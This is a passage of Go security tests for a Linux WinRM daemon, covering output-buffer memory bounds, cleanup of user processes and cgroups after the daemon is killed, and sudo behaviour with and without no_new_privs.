			}
			return n == nShells*perShell
		})
		after := mem()
		m, _ := d.MetricsSnapshot()
		held, _ := Metric(m, "winrmd_output_buffered_bytes")
		t.Logf("daemon heap in use %d → %d MiB with %d unread floods (RSS %d MiB); %v bytes reserved in the output budget",
			before>>20, after>>20, nShells*perShell, procRSSKB(d.PID)>>10, held)
		budget := int64(d.Config.Winrs.MaxOutputBufferPerUserMB) << 20
		if int64(held) > budget {
			t.Errorf("%v bytes reserved, over the account's %d MiB", held, budget>>20)
		}
		// The bound: twice (the garbage collector's headroom) the account's
		// budget and a 64 KiB floor per command, and 64 MiB for everything
		// else; 400 full windows alone are 400 MiB live.
		if grown, bound := after-before, 2*(budget+nShells*perShell<<16)+64<<20; grown > bound {
			executed(t, "the daemon grew by %d MiB (bound %d MiB) holding output nobody received", grown>>20, bound>>20)
		}
		// Nothing is lost: with one flooded shell gone, a command's whole
		// output still arrives.
		shells[0].delete()
		shells = shells[1:]
		sh, err := createShell(c)
		if err != nil {
			t.Fatal(err)
		}
		shells = append(shells, sh)
		res, err := sh.run("seq 1 300000")
		if err != nil {
			t.Fatal(err)
		}
		if lines := strings.Count(string(res.Stdout), "\n"); lines != 300000 || !strings.HasSuffix(string(res.Stdout), "\n300000\n") {
			t.Errorf("seq 1 300000 under the spent budget: %d lines", lines)
		}
	})
}

// ---- 14.3: a stopped worker does not let user processes outlive the daemon -

// runningShell creates a shell of w.admin on d (HTTPS, Basic) whose command
// `echo ready; cmd` has printed ready, so cmd runs.
func runningShell(t *testing.T, d *Daemon, cmd string) *winrsShell {
	t.Helper()
	sh, err := createShell(basicClient{d.HTTPS, true, w.admin.Name, w.admin.Password})
	if err != nil {
		t.Fatal(err)
	}
	id, err := sh.command("echo ready; " + cmd)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := relReceiveUntil(sh, id, "ready", 20*time.Second); err != nil {
		t.Fatal(err)
	}
	return sh
}

// commandRuns tells whether a process of uid has marker in its command line.
func commandRuns(uid int, marker string) bool {
	for _, p := range userProcs(uid) {
		if strings.Contains(strings.Join(p.Args, " "), marker) {
			return true
		}
	}
	return false
}

// stoppedWorkerShell starts a shell of w.admin on d with a long command and
// SIGSTOPs its worker, as its user may (same uid), so that the worker never
// acts on its parent-death signal. It returns the name of the shell's cgroup
// (a pre-started worker's keeps its pool-<random> name).
func stoppedWorkerShell(t *testing.T, d *Daemon) string {
	t.Helper()
	runningShell(t, d, "sleep 3007")
	var worker int
	for _, p := range workerProcs() {
		if p.UID == w.admin.UID && p.PPID == d.PID {
			worker = p.PID
		}
	}
	if worker == 0 {
		t.Fatalf("no worker of %s", w.admin.Name)
	}
	cg, err := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", worker))
	if err != nil {
		t.Fatal(err)
	}
	var group string
	for _, line := range strings.Split(string(cg), "\n") {
		if _, after, ok := strings.Cut(line, "/winrmd/"); ok && after != "" {
			group = after
		}
	}
	if group == "" {
		t.Fatalf("worker %d is in no shell cgroup of the daemon:\n%s", worker, cg)
	}
	if err := syscall.Kill(worker, syscall.SIGSTOP); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { killUserProcesses(w.admin.Name, 5*time.Second) })
	return group
}

// watchdogOf is d's watchdog process (0: none).
func watchdogOf(d *Daemon) int {
	for _, p := range listProcs() {
		if p.PPID == d.PID && len(p.Args) > 1 && p.Args[1] == "watchdog" {
			return p.PID
		}
	}
	return 0
}

// userGone waits until no process of uid is left.
func userGone(uid int, within time.Duration) bool {
	return eventually(within, func() bool { return len(userProcs(uid)) == 0 })
}

func TestSecurityStoppedWorkerDaemonDeath(t *testing.T) {
	need(t)
	secRow(t, "sigstopped_worker_kill9_daemon", func(t *testing.T) {
		d := startDaemon(t, nil)
		d.expectExit = true
		group := stoppedWorkerShell(t, d)
		wdog := watchdogOf(d)
		if wdog == 0 {
			t.Errorf("the daemon has no watchdog process")
		}
		if err := syscall.Kill(d.PID, syscall.SIGKILL); err != nil {
			t.Fatal(err)
		}
		<-d.done
		// No restart: the user's processes are gone all the same.
		if !userGone(w.admin.UID, 15*time.Second) {
			executed(t, "processes of %s survive the daemon's death: %v", w.admin.Name, userProcs(w.admin.UID))
		}
		if wdog != 0 {
			waitFor(t, 15*time.Second, "the watchdog to exit", func() bool { return syscall.Kill(wdog, 0) != nil })
		}
		// Another daemon's start-up (parallel tests) could reap the group
		// too; the watchdog's own word says it did not depend on that.
		// It lists the shell's group (beside the pre-started workers').
		b, _ := os.ReadFile(d.Stderr)
		killedLine := ""
		for _, line := range strings.Split(string(b), "\n") {
			if strings.Contains(line, "the daemon is gone: killed and removed") {
				killedLine = line
			}
		}
		if !strings.Contains(killedLine, group) {
			executed(t, "no watchdog killed the dead daemon's shell cgroup %s:\n%s", group, tail(d.Stderr, 5))
		}
	})
	// The watchdog killed with the daemon (one OOM kill after another): the
	// next start-up reaps what is left.
	t.Run("sigstopped_worker_kill9_daemon_and_watchdog_restart", func(t *testing.T) {
		d := startDaemon(t, nil)
		d.expectExit = true
		stoppedWorkerShell(t, d)
		pooled := poolGroupsOf(d)
		if wdog := watchdogOf(d); wdog != 0 {
			syscall.Kill(wdog, syscall.SIGKILL)
		}
		if err := syscall.Kill(d.PID, syscall.SIGKILL); err != nil {
			t.Fatal(err)
		}
		<-d.done
		time.Sleep(500 * time.Millisecond)
		if len(userProcs(w.admin.UID)) == 0 {
			t.Fatalf("precondition: nothing of %s survived the daemon's and the watchdog's death", w.admin.Name)
		}
		startDaemon(t, nil) // systemd's Restart=on-failure
		if !userGone(w.admin.UID, 15*time.Second) {
			t.Errorf("processes of %s survive the daemon's death and restart: %v", w.admin.Name, userProcs(w.admin.UID))
		}
		// The dead daemon's pre-started workers died with it (parent-death
		// signal), which leaves their groups empty; a start-up removes an
		// empty group only once it is a minute old (orphans.go: it may be
		// another daemon's, made a moment ago), so the restart leaves them
		// to its second pass a minute later (reapLater, tested in
		// isolation). Nothing may be in them; the test removes them rather
		// than wait.
		for _, dir := range cgroupDirsNamed(pooled) {
			if b, err := os.ReadFile(filepath.Join(dir, "cgroup.procs")); err == nil && len(bytes.TrimSpace(b)) > 0 {
				t.Errorf("the dead daemon's pooled worker group %s still holds %q", dir, b)
			}
			if err := os.Remove(dir); err != nil && !os.IsNotExist(err) {
				t.Errorf("removing %s: %v", dir, err)
			}
		}
	})
}

// poolGroupsOf names the cgroups of d's idle pre-started workers.
func poolGroupsOf(d *Daemon) []string {
	var out []string
	for _, p := range idlePooledOf(d) {
		b, _ := os.ReadFile(fmt.Sprintf("/proc/%d/cgroup", p.PID))
		for _, line := range strings.Split(string(b), "\n") {
			if i := strings.LastIndexByte(line, '/'); i >= 0 && strings.HasPrefix(line[i+1:], "pool-") {
				out = append(out, line[i+1:])
				break
			}
		}
	}
	return out
}

// cgroupDirsNamed finds the directories of groups with these names in every
// hierarchy under /sys/fs/cgroup.
func cgroupDirsNamed(names []string) []string {
	want := map[string]bool{}
	for _, n := range names {
		want[n] = true
	}
	var out []string
	if len(want) == 0 {
		return nil
	}
	filepath.WalkDir("/sys/fs/cgroup", func(path string, e os.DirEntry, err error) error {
		if err != nil || !e.IsDir() {
			return nil
		}
		if want[e.Name()] {
			out = append(out, path)
			return filepath.SkipDir
		}
		return nil
	})
	return out
}

// ---- 14.13: sudo works in a shell, as over SSH, unless switched off --------

func TestSecuritySudo(t *testing.T) {
	wd := need(t)
	if _, err := exec.LookPath("sudo"); err != nil {
		t.Skip("sudo is not installed (make test installs it: APT_PKGS)")
	}
	u := secStoreUser(t, wd, "s")
	name := u.Name
	// A NOPASSWD rule for two harmless programs. sudo skips files whose
	// name holds a dot, so the name is the account's.
	rule := filepath.Join("/etc/sudoers.d", name)
	if err := os.WriteFile(rule, []byte(name+" ALL=(root) NOPASSWD: /usr/bin/true, /usr/bin/id\n"), 0o440); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { os.Remove(rule) })
	if out, err := exec.Command("visudo", "-cf", rule).CombinedOutput(); err != nil {
		t.Fatalf("visudo -c %s: %v: %s", rule, err, out)
	}
	const line = "sudo -n true && sudo -n id -u"
	run := func(t *testing.T, d *Daemon) (*result, error) {
		sh, err := createShell(basicClient{d.HTTPS, true, name, u.Password})
		if err != nil {
			t.Fatal(err)
		}
		defer sh.delete()
		return sh.run(line)
	}

	secRow(t, "sudo_nopasswd_in_shell", func(t *testing.T) {
		d := startDaemon(t, nil) // winrs.allow_new_privileges: true, the default
		res, err := run(t, d)
		if err != nil {
			t.Fatal(err)
		}
		if res.ExitCode != 0 || strings.TrimSpace(string(res.Stdout)) != "0" {
			t.Errorf("%q in a shell of %s (NOPASSWD rule): exit %d, stdout %q, stderr %q; want exit 0 and 0",
				line, name, res.ExitCode, res.Stdout, res.Stderr)
		}
	})
	t.Run("sudo_refused_without_new_privileges", func(t *testing.T) {
		d := startDaemon(t, func(c *configs.Config) { c.Winrs.AllowNewPrivileges = false })
		res, err := run(t, d)
		if err != nil {
			t.Fatal(err)
		}
		if res.ExitCode == 0 || strings.TrimSpace(string(res.Stdout)) == "0" {
			executed(t, "sudo ran as root with winrs.allow_new_privileges false: exit %d, stdout %q", res.ExitCode, res.Stdout)
		}
		if !strings.Contains(string(res.Stderr), "no new privileges") {
			t.Errorf("sudo's refusal does not name no_new_privs: %q", res.Stderr)
		}
	})
}
